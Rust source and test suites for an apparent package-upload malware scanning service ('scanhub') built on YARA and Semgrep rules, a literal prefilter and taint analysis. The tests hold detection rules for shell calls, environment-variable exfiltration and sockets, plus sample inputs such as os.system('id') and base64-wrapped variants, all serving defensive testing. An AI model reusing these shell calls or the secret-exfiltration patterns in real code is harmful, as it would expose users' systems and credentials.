//! 3. **Digest-keyed verdict cache** ([`HubConfig::cache_capacity`]) — a
//!    sha256-keyed LRU serves re-uploads and unchanged file sets without
//!    scanning; the paper's own corpus collapses 3,200 uploads to 1,633
//!    unique signatures, so registry traffic is duplicate-heavy by
//!    nature.
//!
//! Throughput, cache-hit rate and prefilter skip rate are exposed as
//! [`HubStats`].
//!
//! # Examples
//!
//! ```
//! use scanhub::{HubConfig, ScanHub, ScanRequest};
//!
//! let yara = yara_engine::compile(
//!     "rule sys { strings: $a = \"os.system\" condition: $a }",
//! )?;
//! let hub = ScanHub::new(Some(yara), None, HubConfig::default());
//! let verdict = hub
//!     .submit(ScanRequest::new(b"os.system('id')".to_vec(), vec![]))
//!     .wait();
//! assert_eq!(verdict.yara, vec!["sys".to_owned()]);
//! # Ok::<(), yara_engine::CompileError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod cache;
mod hub;
mod prefilter;
mod request;
mod stats;
mod verdict;

pub use cache::DigestKey;
pub use hub::{HubConfig, ScanHub, Ticket};
pub use prefilter::{PrefilterIndex, PrefilterScratch, Routing};
pub use request::ScanRequest;
pub use stats::HubStats;
pub use verdict::Verdict;

//! `scanhub` — a registry-scale streaming scan service.
//!
//! The paper deploys LLM-generated YARA and Semgrep rules to screen OSS
//! package uploads; this crate turns the one-shot batch loop of the
//! original evaluation into a **service** shaped for heavy registry
//! traffic. Four mechanisms carry the load:
//!
//! 1. **Parse-once analysis artifacts** ([`FileAnalysis`]) — a request
//!    is a list of file entries (name + one shared copy of the bytes),
//!    and each file's full analysis — spanned tokens, tolerant-parsed
//!    module, interned string-literal table, base64/hex **decoded
//!    layers**, and the ruleset's string-definition hits on every
//!    layer — is computed once and cached in a sha256-keyed LRU. A
//!    re-uploaded package version re-analyzes only its changed files;
//!    unchanged files cost one cache lookup
//!    ([`HubStats::artifact_cache_hits`]).
//! 2. **Global literal prefilter** ([`PrefilterIndex`]) — one
//!    case-insensitive Aho–Corasick automaton over the distinct
//!    plain-text atoms of every compiled YARA rule (via
//!    [`yara_engine::literal_atoms`]) and every Semgrep pattern (via
//!    [`semgrep_engine::SemgrepRule::literal_atoms`]). Automaton passes
//!    over each file's bytes and decoded layers route the package to
//!    exactly the rules whose atoms occur; rules with an exhaustive atom
//!    set that did not hit are *provably* non-matching and skip
//!    condition evaluation. Prefiltered scanning is byte-identical to
//!    exhaustive scanning (the property tests in `tests/properties.rs`
//!    prove this on randomized corpora).
//! 3. **Decoded-layer scanning** — string literals above an
//!    entropy/length threshold are base64/hex-decoded (recursively, to
//!    a bounded depth) and YARA scans each decoded payload as its own
//!    unit. Findings land in [`Verdict::layers`] tagged with file,
//!    encoding, depth and source line, closing the string-encoding
//!    evasion gap measured in `docs/threat_model.md` while keeping
//!    verdicts explainable.
//! 4. **Behavioral taint engine** — every Python artifact carries a
//!    [`dataflow::TaintSummary`]: intra-procedural source→sink flows
//!    (env/file/net/socket reads reaching exec/subprocess/exfil/startup
//!    writes) plus constants folded out of concat/`%`-format/decode
//!    chains, which become synthetic [`LayerEncoding::Folded`] layers
//!    YARA scans like any decoded payload. Flows land in
//!    [`Verdict::flows`] with their full step chains. The analysis runs
//!    at artifact-build time, so it obeys the same once-per-unique-
//!    digest contract as parsing.
//! 5. **Sharded worker pool + digest caches** ([`ScanHub`]) — a bounded
//!    submission queue provides backpressure; each worker owns reusable
//!    scanner state; a sha256-keyed LRU serves byte-identical re-uploads
//!    without scanning at all.
//!
//! Throughput, cache-hit rates, artifact reuse and prefilter skip rate
//! are exposed as [`HubStats`], which also carries per-stage latency
//! percentiles ([`StageLatencies`]) from the hub's lock-free log-linear
//! histograms. Every completed scan leaves a [`ScanTrace`] — per-stage
//! wall time, bytes, digest, worker and fired rules with evidence
//! provenance — in a bounded flight recorder, and the whole metric set
//! exports as Prometheus text ([`ScanHub::export_prometheus`]) or JSON
//! ([`ScanHub::export_json`]).
//!
//! # Examples
//!
//! ```
//! use scanhub::{HubConfig, ScanHub, ScanRequest};
//!
//! let yara = yara_engine::compile(
//!     "rule sys { strings: $a = \"os.system\" condition: $a }",
//! )?;
//! let hub = ScanHub::new(Some(yara), None, HubConfig::default());
//! let verdict = hub
//!     .submit(ScanRequest::from_source("mod.py", "os.system('id')"))
//!     .wait();
//! assert_eq!(verdict.yara, vec!["sys".to_owned()]);
//! # Ok::<(), yara_engine::CompileError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod artifact;
mod cache;
mod hub;
mod prefilter;
mod request;
mod retrohunt;
mod stats;
mod trace;
mod verdict;

pub use artifact::{ArtifactConfig, DecodedLayer, FileAnalysis, LayerEncoding, LazyModule};
pub use cache::DigestKey;
pub use hub::{HubConfig, ScanHub, Ticket};
pub use prefilter::{
    ChangedRule, DeltaKind, PrefilterIndex, PrefilterScratch, Routing, RuleDelta, RuleEngine,
};
pub use request::{FileEntry, ScanRequest};
pub use retrohunt::{RetroReport, RetroRuleHits, RetroVerdict, RuleDeployment, TermProvenance};
pub use stats::{HubStats, LatencyStat, StageLatencies};
pub use trace::{FiredEngine, FiredRule, ScanTrace, StageNanos};
pub use verdict::{FlowRecord, LayerFinding, Verdict};

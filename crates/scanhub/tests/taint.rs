//! Differential and property suite for the behavioral taint engine.
//!
//! Pins the invariants ISSUE 8 requires of the dataflow stage:
//!
//! - **Determinism**: flow findings are identical across worker counts
//!   and under artifact-cache eviction churn.
//! - **Once per digest**: the taint analysis runs exactly once per
//!   unique Python file digest, any worker count (the artifact cache's
//!   single-flight contract extends to the behavior engine).
//! - **Label invariance**: the set of flow labels a malicious package
//!   produces is unchanged by every obfuscation profile — rename,
//!   import aliasing, call indirection and string encoding all leave
//!   the source→sink structure visible to the engine.
//! - **Zero false positives**: the legit corpus produces no flows.
//! - **Layering**: enabling dataflow never perturbs the surface
//!   YARA/Semgrep verdict; it can only add flows and folded layers.

use std::collections::{BTreeSet, HashSet};

use corpus::FAMILIES;
use obfuscate::{EvasionProfile, Obfuscator};
use scanhub::{HubConfig, ScanHub, ScanRequest, Verdict};

/// A rule-less hub: no YARA, no Semgrep — every finding below comes
/// from the behavior engine alone.
fn taint_hub(workers: usize, artifact_cache_capacity: usize) -> ScanHub {
    ScanHub::new(
        None,
        None,
        HubConfig {
            workers,
            cache_capacity: 0,
            artifact_cache_capacity,
            ..HubConfig::default()
        },
    )
}

fn flow_labels(verdict: &Verdict) -> BTreeSet<String> {
    verdict.flows.iter().map(|f| f.flow.label.clone()).collect()
}

fn malware_requests(variants: u64, seed: u64) -> Vec<ScanRequest> {
    FAMILIES
        .iter()
        .flat_map(|family| {
            (0..variants).map(move |v| {
                ScanRequest::from_package(&corpus::generate_malware_package(family, v, seed).0)
            })
        })
        .collect()
}

#[test]
fn flows_are_identical_across_worker_counts_and_eviction_churn() {
    let requests = malware_requests(2, 7);
    // Baseline: one worker, roomy cache.
    let baseline: Vec<Verdict> = taint_hub(1, 4096).scan_ordered(requests.iter().cloned());
    assert!(
        baseline.iter().any(|v| !v.flows.is_empty()),
        "corpus produced no flows at all — the comparison would be vacuous"
    );
    for (workers, capacity) in [(2, 4096), (4, 4096), (4, 2), (3, 1)] {
        let verdicts: Vec<Verdict> =
            taint_hub(workers, capacity).scan_ordered(requests.iter().cloned());
        for (a, b) in baseline.iter().zip(&verdicts) {
            assert!(
                a.same_matches(b),
                "flows diverged at workers={workers} capacity={capacity}:\n{:?}\nvs\n{:?}",
                a.flows,
                b.flows
            );
        }
    }
}

#[test]
fn taint_analysis_runs_exactly_once_per_unique_python_digest() {
    let requests = malware_requests(3, 11);
    let mut unique_python: HashSet<[u8; 32]> = HashSet::new();
    for req in &requests {
        for entry in req.files() {
            if entry.is_python() {
                unique_python.insert(entry.digest());
            }
        }
    }
    for workers in [1, 2, 4] {
        let hub = taint_hub(workers, 4096);
        // Submit everything twice: repeats must all be artifact hits.
        let first = hub.scan_ordered(requests.iter().cloned());
        let again = hub.scan_ordered(requests.iter().cloned());
        assert_eq!(first, again, "warm artifacts changed a verdict");
        let stats = hub.stats();
        assert_eq!(
            stats.taint_analyses,
            unique_python.len() as u64,
            "taint analysis count must equal unique Python digests (workers={workers})"
        );
    }
}

#[test]
fn legit_corpus_produces_zero_flows() {
    let hub = taint_hub(2, 4096);
    for idx in 0..40 {
        for seed in [1u64, 99] {
            let pkg = corpus::generate_legit_package(idx, seed);
            let verdict = hub.submit(ScanRequest::from_package(&pkg)).wait();
            assert!(
                verdict.flows.is_empty(),
                "false-positive flow on legit package {} (idx {idx}, seed {seed}): {:?}",
                pkg.metadata().name,
                verdict.flows
            );
        }
    }
}

#[test]
fn flow_labels_survive_every_obfuscation_profile() {
    let hub = taint_hub(2, 4096);
    for (fi, family) in FAMILIES.iter().enumerate() {
        let seed = fi as u64 + 1;
        let original = corpus::generate_malware_package(family, 0, seed).0;
        let base = flow_labels(&hub.submit(ScanRequest::from_package(&original)).wait());
        for profile in EvasionProfile::standard() {
            let mutant = Obfuscator::new(profile.clone(), seed).obfuscate_package(&original);
            let got = flow_labels(&hub.submit(ScanRequest::from_package(&mutant)).wait());
            assert_eq!(
                got, base,
                "flow labels changed under {} for family {}",
                profile.name, family.id
            );
        }
    }
}

#[test]
fn enabling_dataflow_only_adds_flows_and_folded_layers() {
    const YARA: &str = r#"
rule sys { strings: $a = "os.system" condition: $a }
rule c2 { strings: $a = "requests.get" condition: $a }
"#;
    const SEMGREP: &str = "rules:\n  - id: sys-call\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n";
    let build = |dataflow: bool| {
        ScanHub::new(
            Some(yara_engine::compile(YARA).expect("yara")),
            Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
            HubConfig {
                workers: 2,
                cache_capacity: 0,
                dataflow,
                ..HubConfig::default()
            },
        )
    };
    let on = build(true);
    let off = build(false);
    for family in FAMILIES.iter() {
        let pkg = corpus::generate_malware_package(family, 0, 5).0;
        let request = ScanRequest::from_package(&pkg);
        let with = on.submit(request.clone()).wait();
        let without = off.submit(request).wait();
        assert_eq!(with.yara, without.yara, "dataflow changed surface yara");
        assert_eq!(with.semgrep, without.semgrep, "dataflow changed semgrep");
        assert!(without.flows.is_empty(), "dataflow-off hub produced flows");
        // Every layer finding of the off hub survives; extras on the on
        // hub can only come from folded constants.
        for finding in &without.layers {
            assert!(
                with.layers.contains(finding),
                "dataflow dropped a layer finding: {finding:?}"
            );
        }
    }
}

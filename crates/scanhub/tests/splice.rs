//! Differential property suite for incremental artifacts (ISSUE 10):
//! diff-and-splice relexing may change *how* an artifact gets built,
//! never *what* it contains. A hub that splices version bumps against
//! cached siblings must return verdicts byte-identical to a cold hub
//! that full-parses every version, the splice counters must account for
//! every build, and spliced artifacts must post the same retro-hunt
//! index grams — a retro-hunt over spliced history must agree with the
//! exhaustive rescan oracle.

use proptest::prelude::*;
use scanhub::{FileEntry, HubConfig, ScanHub, ScanRequest};

const YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule net { strings: $a = "socket.socket" condition: $a }
rule b64ish { strings: $re = /[A-Za-z0-9+\/]{24,}/ condition: $re }
"#;

const SEMGREP: &str = "rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
";

fn hub(artifact_capacity: usize) -> ScanHub {
    ScanHub::new(
        Some(yara_engine::compile(YARA).expect("yara")),
        Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
        HubConfig {
            // One worker: releases are analyzed in version order, so
            // every bump finds its predecessor already cached — the
            // deterministic splice-rate floor the assertions pin. (With
            // racing workers a bump can beat its own sibling into the
            // cache and legitimately full-parse; correctness under that
            // race is covered by the multi-worker property suite.)
            workers: 1,
            cache_capacity: 0, // force full scans so the artifact path runs
            artifact_cache_capacity: artifact_capacity,
            ..HubConfig::default()
        },
    )
}

/// A token-dense Python module of `lines` statements where statement
/// `k` carries `marker` — the realistic shape of a package source that
/// gets one line touched per release.
fn module(file: usize, lines: usize, k: usize, marker: &str) -> String {
    let mut code = String::from("import os\n");
    for i in 0..lines {
        if i == k {
            code.push_str(&format!("slot_{i} = '{marker}'\n"));
        } else {
            code.push_str(&format!("slot_{i} = {i} * {file} + len('padding')\n"));
        }
    }
    code
}

/// `versions` releases of a package of `files` modules: release `v`
/// rewrites one line of one module (round-robin) and the change sticks
/// — the version-bump workload the splice path exists for. Successive
/// releases differ in exactly one line of one file.
fn release_stream(files: usize, lines: usize, versions: usize) -> Vec<ScanRequest> {
    let mut markers: Vec<String> = (0..files).map(|f| format!("base {f}")).collect();
    (0..versions)
        .map(|v| {
            if v > 0 {
                markers[(v - 1) % files] = format!("release {v} payload os.system(x)");
            }
            let entries = (0..files)
                .map(|f| {
                    FileEntry::new(
                        format!("pkg/mod_{f}.py"),
                        module(f, lines, (f * 7 + lines / 2) % lines, &markers[f]).into_bytes(),
                    )
                })
                .collect::<Vec<_>>();
            ScanRequest::from_files(entries)
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Verdicts over a version stream are identical whether artifacts
    /// are spliced from siblings or always built from scratch, and the
    /// counters account for every build: parses + relexes == unique
    /// digests, with relexed bytes a strict fraction of content.
    #[test]
    fn spliced_version_stream_matches_cold_scans(
        files in 1usize..4,
        lines in 20usize..60,
        versions in 2usize..6,
    ) {
        let requests = release_stream(files, lines, versions);
        let warm = hub(4096);
        let cold = hub(0); // artifact cache off: every entry full-parses
        let warm_verdicts = warm.scan_ordered(requests.iter().cloned());
        let cold_verdicts = cold.scan_ordered(requests.iter().cloned());
        for (w, c) in warm_verdicts.iter().zip(&cold_verdicts) {
            prop_assert!(w.same_matches(c), "splice changed a verdict:\n{w:?}\nvs\n{c:?}");
        }
        let stats = warm.stats();
        // Each release after the first introduces exactly one new
        // digest: the edited module, a one-line diff from its cached
        // sibling. Every other entry is a digest cache hit.
        let mut unique = std::collections::HashSet::new();
        for req in &requests {
            for f in req.files() {
                unique.insert(f.digest());
            }
        }
        prop_assert_eq!(
            stats.artifact_parses + stats.incremental_relexes,
            unique.len() as u64,
            "every unique digest is built exactly once, spliced or not"
        );
        prop_assert!(
            stats.incremental_relexes >= (versions - 1) as u64,
            "version bumps must splice: {} relexes over {} releases",
            stats.incremental_relexes,
            versions
        );
        prop_assert!(stats.relexed_bytes > 0);
        // A one-line edit in an N-line module relexes a small window.
        let content: u64 = requests
            .iter()
            .flat_map(|r| r.files().iter())
            .map(|f| f.bytes().len() as u64)
            .sum();
        prop_assert!(
            stats.relexed_bytes * 4 < content,
            "windows ({} bytes) are not small against content ({content} bytes)",
            stats.relexed_bytes
        );
    }

    /// Spliced artifacts feed the retro-hunt index the same grams a
    /// full build would: hunting new rules over spliced history agrees
    /// with the exhaustive rescan oracle and finds IOCs that entered
    /// history *through a splice*.
    #[test]
    fn retro_hunt_over_spliced_history_matches_the_rescan_oracle(
        files in 1usize..3,
        lines in 20usize..40,
        versions in 3usize..6,
    ) {
        let hub = hub(4096);
        let requests = release_stream(files, lines, versions);
        let _ = hub.scan_ordered(requests);
        let stats = hub.stats();
        prop_assert!(stats.incremental_relexes >= (versions - 1) as u64, "history must contain spliced artifacts");
        // `hunted` matches the payload text spliced into each release;
        // `absent` must nominate nothing.
        let next = r#"
rule hunted { strings: $a = "payload os.system" condition: $a }
rule absent { strings: $a = "no_such_marker_anywhere" condition: $a }
"#;
        let deployment = hub.deploy_rules(Some(yara_engine::compile(next).expect("next")), None);
        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        prop_assert!(
            report.same_hits(&oracle),
            "hunt over spliced artifacts diverged from rescan:\n{:?}\nvs\n{:?}",
            report.rules,
            oracle.rules
        );
        let hunted = report.rules.iter().find(|r| r.rule == "hunted").expect("hunted");
        // The newest release's payload line is cache-resident and was
        // built by splice; the index must still surface it.
        prop_assert!(!hunted.digests.is_empty(), "IOC spliced into history was lost");
        let absent = report.rules.iter().find(|r| r.rule == "absent").expect("absent");
        prop_assert!(absent.digests.is_empty());
        prop_assert!(absent.candidates < report.digests_indexed, "index failed to prune");
    }
}

/// Sibling eviction is safe: when the cache is too small to keep the
/// previous version resident, bumps full-parse (no stale splice donor)
/// and verdicts stay correct.
#[test]
fn evicted_siblings_degrade_to_full_builds() {
    let tiny = hub(1);
    let requests = release_stream(3, 24, 3); // 3 files/release, capacity 1
    let verdicts = tiny.scan_ordered(requests.iter().cloned());
    let cold = hub(0);
    let oracle = cold.scan_ordered(requests.iter().cloned());
    for (v, o) in verdicts.iter().zip(&oracle) {
        assert!(
            v.same_matches(o),
            "eviction-pressured hub changed a verdict"
        );
    }
    let stats = tiny.stats();
    assert_eq!(
        stats.incremental_relexes, 0,
        "no sibling survives a capacity-1 cache shared by 3 files"
    );
}

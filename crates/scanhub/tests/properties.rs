//! Property tests: prefiltered, artifact-cached, unit-split scanning
//! must be verdict-identical to flat exhaustive scanning, the verdict
//! cache must be transparent, and the artifact cache must perform
//! exactly one analysis per unique file digest.

use std::collections::HashSet;

use corpus::FAMILIES;
use obfuscate::{EvasionProfile, Obfuscator};
use proptest::prelude::*;
use scanhub::{FileEntry, HubConfig, ScanHub, ScanRequest, Verdict};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

/// A rule pool exercising every prefilter path: plain atoms, `nocase`,
/// counts, `all of`, negation, regex strings (always-on), filesize
/// disjunctions (always-on), and a dead rule.
const YARA_POOL: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule exfil_pair { strings: $a = "os.environ" $b = "requests.post" condition: all of them }
rule noisy { strings: $a = "import" condition: #a >= 3 }
rule caseless { strings: $a = "SubProcess" nocase condition: $a }
rule b64blob { strings: $re = /[A-Za-z0-9+\/]{24,}={0,2}/ condition: $re }
rule big_or_eval { strings: $a = "eval(" condition: $a or filesize > 500000 }
rule guarded { strings: $a = "setup(" $lic = "license" condition: $a and not $lic }
rule dead { condition: false }
"#;

const SEMGREP_POOL: &str = r#"
rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
  - id: eval-or-exec
    languages: [python]
    message: dynamic code
    pattern-either:
      - pattern: eval($X)
      - pattern: exec($X)
  - id: open-write
    languages: [python]
    message: file write
    patterns:
      - pattern: open($F, 'w')
      - pattern-not: open('log.txt', 'w')
  - id: any-call
    languages: [python]
    message: opaque (always-on)
    pattern: $F(secret_marker_zz)
"#;

fn pools() -> (CompiledRules, CompiledSemgrepRules) {
    (
        yara_engine::compile(YARA_POOL).expect("yara pool"),
        semgrep_engine::compile(SEMGREP_POOL).expect("semgrep pool"),
    )
}

/// The pre-refactor oracle: single-threaded, rule-by-rule exhaustive
/// scanning of the **flattened** request — one whole-buffer YARA pass
/// over the concatenated files, the *seed's* reparse-per-call Semgrep
/// matcher per Python source — with no prefilter, no routing, no cache,
/// no artifacts, no unit splitting and no decoded layers. The service's
/// per-file hit-union path is differentially checked against it.
fn exhaustive(
    yara: &CompiledRules,
    semgrep: &CompiledSemgrepRules,
    request: &ScanRequest,
) -> Verdict {
    let scanner = yara_engine::Scanner::new(yara);
    let mut verdict = Verdict {
        yara: scanner
            .scan(&request.concat_buffer())
            .into_iter()
            .map(|h| h.rule)
            .collect(),
        ..Verdict::default()
    };
    verdict.yara.sort();
    verdict.yara.dedup();
    let mut ids = HashSet::new();
    for src in request.python_sources() {
        let module = pysrc::parse_module(&src);
        for rule in &semgrep.rules {
            for finding in semgrep_engine::reference::match_module(rule, &module) {
                ids.insert(finding.rule_id);
            }
        }
    }
    verdict.semgrep = ids.into_iter().collect();
    verdict.semgrep.sort();
    verdict
}

fn hub_with(prefilter: bool, max_decode_depth: u8) -> ScanHub {
    let (yara, semgrep) = pools();
    ScanHub::new(
        Some(yara),
        Some(semgrep),
        HubConfig {
            workers: 2,
            cache_capacity: 0,
            prefilter,
            max_decode_depth,
            // These suites differentially compare against the flat
            // pre-refactor oracle, which has no behavior engine; the
            // taint differential suite covers dataflow-on invariants.
            dataflow: false,
            ..HubConfig::default()
        },
    )
}

fn prefilter_hub() -> ScanHub {
    hub_with(true, 0)
}

fn nofilter_hub() -> ScanHub {
    hub_with(false, 0)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    #[test]
    fn prefiltered_matches_equal_exhaustive_on_random_corpora(
        family_idx in 0usize..30,
        variant in 0u64..20,
        seed in any::<u64>(),
        legit_idx in 0usize..40,
    ) {
        let (yara, semgrep) = pools();
        let hub = prefilter_hub();
        let family = &FAMILIES[family_idx];
        let malware = corpus::generate_malware_package(family, variant, seed).0;
        let legit = corpus::generate_legit_package(legit_idx, seed);
        for pkg in [&malware, &legit] {
            let request = ScanRequest::from_package(pkg);
            let fast = hub.submit(request.clone()).wait();
            let slow = exhaustive(&yara, &semgrep, &request);
            prop_assert_eq!(&fast.yara, &slow.yara, "yara diverged on {}", pkg.metadata().name);
            prop_assert_eq!(&fast.semgrep, &slow.semgrep, "semgrep diverged on {}", pkg.metadata().name);
            prop_assert!(fast.layers.is_empty(), "layered-off hub produced layer findings");
        }
    }

    #[test]
    fn prefiltered_matches_equal_exhaustive_on_adversarial_text(
        body in "[ -~\\n]{0,300}",
        inject_atom in any::<bool>(),
    ) {
        // Arbitrary printable garbage, half the time salted with a real
        // atom so both prefilter outcomes (skip and route) are exercised.
        let code = if inject_atom {
            format!("{body}\nimport os\nos.system('x')\n")
        } else {
            body
        };
        let (yara, semgrep) = pools();
        let hub = prefilter_hub();
        let request = ScanRequest::from_source("upload.py", code);
        let fast = hub.submit(request.clone()).wait();
        let slow = exhaustive(&yara, &semgrep, &request);
        prop_assert_eq!(&fast.yara, &slow.yara);
        prop_assert_eq!(&fast.semgrep, &slow.semgrep);
    }

    #[test]
    fn mutant_verdicts_identical_between_prefiltered_and_exhaustive_scans(
        family_idx in 0usize..30,
        variant in 0u64..10,
        seed in any::<u64>(),
        profile_idx in 0usize..3,
    ) {
        // ISSUE 2 acceptance criterion: the prefilter stays *sound* on
        // adversarially mutated uploads — no rule is skipped that would
        // have matched the mutant. ISSUE 5 extension: the per-file
        // artifact path (unit-split hit unions, artifact cache) with
        // layered scanning OFF is verdict-identical to the flat
        // pre-refactor scan, and layered scanning ON never perturbs the
        // surface verdict — it can only append tagged layer findings.
        let (yara, semgrep) = pools();
        let hub = prefilter_hub();
        let off = nofilter_hub();
        let layered = hub_with(true, 2);
        let family = &FAMILIES[family_idx];
        let original = corpus::generate_malware_package(family, variant, seed).0;
        let profile = EvasionProfile::standard().swap_remove(profile_idx);
        let mutant = Obfuscator::new(profile.clone(), seed).obfuscate_package(&original);
        let request = ScanRequest::from_package(&mutant);
        let fast = hub.submit(request.clone()).wait();
        let unrouted = off.submit(request.clone()).wait();
        let with_layers = layered.submit(request.clone()).wait();
        let slow = exhaustive(&yara, &semgrep, &request);
        prop_assert_eq!(
            &fast.yara, &slow.yara,
            "yara diverged on {} mutant of {}", profile.name, original.metadata().name
        );
        prop_assert_eq!(
            &fast.semgrep, &slow.semgrep,
            "semgrep diverged on {} mutant of {}", profile.name, original.metadata().name
        );
        prop_assert_eq!(
            &fast, &unrouted,
            "prefilter on/off diverged on {} mutant of {}", profile.name, original.metadata().name
        );
        prop_assert_eq!(
            &with_layers.yara, &fast.yara,
            "layered scanning changed the surface yara verdict"
        );
        prop_assert_eq!(&with_layers.semgrep, &fast.semgrep);
        prop_assert_eq!(hub.stats().semgrep_pattern_reparses, 0);
        prop_assert_eq!(off.stats().semgrep_pattern_reparses, 0);
    }

    #[test]
    fn artifact_cache_performs_exactly_one_analysis_per_unique_digest(
        family_idx in 0usize..30,
        seed in any::<u64>(),
        versions in 2usize..5,
    ) {
        // A hub run over N versions of one package — each bumping a
        // version marker file and rewriting one source file — must
        // analyze exactly `unique file digests` entries, and every
        // other entry must be an artifact-cache hit.
        let hub = hub_with(true, 2);
        let family = &FAMILIES[family_idx];
        let base = corpus::generate_malware_package(family, 0, seed).0;
        let base_files: Vec<FileEntry> = ScanRequest::from_package(&base).files().to_vec();
        let mut requests: Vec<ScanRequest> = Vec::new();
        for v in 0..versions {
            let mut files = base_files.clone();
            // One changed source per version (round-robin), plus a
            // version stamp every version touches.
            let idx = v % base_files.len();
            files[idx] = FileEntry::new(
                base_files[idx].name(),
                format!("# v{v}\nrewritten = {v}\n").into_bytes(),
            );
            files.push(FileEntry::new("VERSION", format!("{v}.0.0").into_bytes()));
            requests.push(ScanRequest::from_files(files));
        }
        let mut unique: HashSet<[u8; 32]> = HashSet::new();
        let mut total_entries = 0u64;
        for req in &requests {
            for f in req.files() {
                unique.insert(f.digest());
                total_entries += 1;
            }
        }
        let verdicts = hub.scan_ordered(requests.iter().cloned());
        prop_assert_eq!(verdicts.len(), requests.len());
        let stats = hub.stats();
        // One analysis per unique digest — whether built from scratch
        // or spliced incrementally from a cached sibling (ISSUE 10).
        let builds = stats.artifact_parses + stats.incremental_relexes;
        prop_assert_eq!(builds, unique.len() as u64,
            "build count must equal unique file digests");
        prop_assert_eq!(stats.artifact_cache_hits, total_entries - unique.len() as u64);
        // Re-submitting every version rebuilds nothing at all.
        let again = hub.scan_ordered(requests.iter().cloned());
        prop_assert_eq!(&again, &verdicts, "warm artifacts changed a verdict");
        let stats = hub.stats();
        prop_assert_eq!(stats.artifact_parses + stats.incremental_relexes, builds);
    }

    #[test]
    fn cached_artifacts_never_serve_stale_analyses_for_changed_bytes(
        family_idx in 0usize..30,
        seed in any::<u64>(),
    ) {
        // Same file name, changed bytes: the digest changes, so the
        // artifact is rebuilt and the verdict reflects the new content —
        // in both directions (payload added, payload removed).
        let hub = hub_with(true, 2);
        let family = &FAMILIES[family_idx];
        let pkg = corpus::generate_malware_package(family, 0, seed).0;
        let dirty = ScanRequest::from_package(&pkg);
        let cleaned: Vec<FileEntry> = dirty
            .files()
            .iter()
            .map(|f| FileEntry::new(f.name(), b"x = 1\n".to_vec()))
            .collect();
        let clean = ScanRequest::from_files(cleaned);
        for (a, b) in dirty.files().iter().zip(clean.files()) {
            prop_assert_ne!(a.digest(), b.digest());
        }
        let dirty_verdict = hub.submit(dirty.clone()).wait();
        let clean_verdict = hub.submit(clean).wait();
        prop_assert!(!clean_verdict.flagged(),
            "stale artifact kept flagging overwritten content: {:?}", clean_verdict);
        // And scanning the dirty body again still flags it.
        let again = hub.submit(dirty).wait();
        prop_assert!(again.same_matches(&dirty_verdict));
    }

    #[test]
    fn mutated_reupload_never_served_a_stale_cached_verdict(
        family_idx in 0usize..30,
        seed in any::<u64>(),
        profile_idx in 0usize..3,
    ) {
        // A changed body must always be rescanned: the sha256 key of the
        // verdict cache may only ever serve byte-identical re-uploads.
        let (yara, semgrep) = pools();
        let hub = ScanHub::new(
            Some(yara.clone()),
            Some(semgrep.clone()),
            HubConfig { workers: 2, max_decode_depth: 0, ..HubConfig::default() },
        );
        let family = &FAMILIES[family_idx];
        let original = corpus::generate_malware_package(family, 0, seed).0;
        let profile = EvasionProfile::standard().swap_remove(profile_idx);
        let mutant = Obfuscator::new(profile, seed).obfuscate_package(&original);
        let orig_req = ScanRequest::from_package(&original);
        let mut_req = ScanRequest::from_package(&mutant);
        prop_assert_ne!(orig_req.digest(), mut_req.digest(), "mutation changed no bytes");

        let first = hub.submit(orig_req.clone()).wait();
        prop_assert!(!first.from_cache);
        // The mutant is a *different* body: it must be scanned fresh and
        // agree with the exhaustive oracle, not with the cached original.
        let mutant_verdict = hub.submit(mut_req.clone()).wait();
        prop_assert!(!mutant_verdict.from_cache, "stale verdict served for a changed body");
        let oracle = exhaustive(&yara, &semgrep, &mut_req);
        prop_assert_eq!(&mutant_verdict.yara, &oracle.yara);
        prop_assert_eq!(&mutant_verdict.semgrep, &oracle.semgrep);
        // Byte-identical mutant re-upload: now the cache may (and does)
        // answer, with the same matches.
        let again = hub.submit(mut_req).wait();
        prop_assert!(again.from_cache);
        prop_assert!(again.same_matches(&mutant_verdict));
    }

    #[test]
    fn resubmitted_package_is_served_from_cache_with_identical_verdict(
        family_idx in 0usize..30,
        seed in any::<u64>(),
    ) {
        let (yara, semgrep) = pools();
        let hub = ScanHub::new(
            Some(yara),
            Some(semgrep),
            HubConfig { workers: 2, ..HubConfig::default() },
        );
        let family = &FAMILIES[family_idx];
        let pkg = corpus::generate_malware_package(family, 0, seed).0;
        let request = ScanRequest::from_package(&pkg);
        let first = hub.submit(request.clone()).wait();
        let second = hub.submit(request).wait();
        prop_assert!(!first.from_cache);
        prop_assert!(second.from_cache, "re-submission must hit the cache");
        prop_assert!(first.same_matches(&second), "cached verdict must be identical");
        prop_assert_eq!(hub.stats().cache_hits, 1);
    }
}

//! Flight-recorder and stage-timing properties over the public hub API:
//! every completed scan is explainable from its trace, stage sums never
//! exceed wall time, and the ring stays bounded under concurrent load.

use std::collections::HashSet;

use proptest::prelude::*;
use scanhub::{FiredEngine, HubConfig, ScanHub, ScanRequest};

const YARA: &str = r#"
rule sys { strings: $a = "os.system" condition: $a }
rule net { strings: $a = "socket.socket" condition: $a }
"#;

const SEMGREP: &str = "rules:\n  - id: sys-call\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n";

fn hub(config: HubConfig) -> ScanHub {
    ScanHub::new(
        Some(yara_engine::compile(YARA).expect("yara")),
        Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
        config,
    )
}

/// A deterministic source body for request `i`; every fourth one
/// carries a base64-wrapped payload so layer scanning runs too.
fn body(i: usize) -> String {
    match i % 4 {
        0 => format!("import os\nos.system('cmd{i}')\n"),
        1 => format!(
            "blob = '{}'\n",
            digest::base64::encode(format!("os.system('p{i}')").as_bytes())
        ),
